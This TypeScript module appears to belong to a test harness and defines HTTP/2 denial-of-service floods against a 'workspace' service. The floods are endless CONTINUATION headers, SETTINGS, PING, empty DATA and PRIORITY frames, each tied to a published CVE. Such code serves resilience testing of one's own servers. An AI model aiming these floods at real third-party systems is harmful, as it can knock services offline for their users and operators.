import type { Flood } from "./flood.ts";
import { FLAG, FRAME, frame, headersOf, OPENING } from "./http2-frames.ts";

/** Four connections that send the same bytes a hundred times a second, after `first`. */
const repeated = (bytes: Buffer, first: Buffer = Buffer.alloc(0)): Flood => ({
  target: "workspace",
  connections: 4,
  everyMs: 10,
  *send() {
    yield Buffer.concat([OPENING, first]);
    for (;;) yield bytes;
  },
});

const times = (count: number, one: Buffer) => Buffer.concat(Array.from({ length: count }, () => one));

/** Headers that never end (CVE-2024-27983): 26 MB a second. */
export const continuation = repeated(
  times(4, frame(FRAME.continuation, FLAG.none, 1, Buffer.alloc(16_384))),
  frame(FRAME.headers, FLAG.endStream, 1, headersOf("/", "application/proto")),
);

/** Frames that the server must acknowledge, 20,000 a second of each kind (CVE-2019-9515, CVE-2019-9512). */
export const settings = repeated(times(50, frame(FRAME.settings, FLAG.none, 0, Buffer.from([0, 4, 0, 0, 255, 255]))));
export const pings = repeated(times(50, frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8))));

/** Frames that carry nothing, 20,000 a second of each kind (CVE-2019-9518, CVE-2019-9513). */
export const emptyData = repeated(
  times(50, frame(FRAME.data, FLAG.none, 1)),
  frame(
    FRAME.headers,
    FLAG.endHeaders,
    1,
    headersOf("/workspace.v1.WorkspaceService/GetWorkspace", "application/proto"),
  ),
);
export const priorities = repeated(times(50, frame(FRAME.priority, FLAG.none, 1, Buffer.from([0, 0, 0, 0, 9]))));
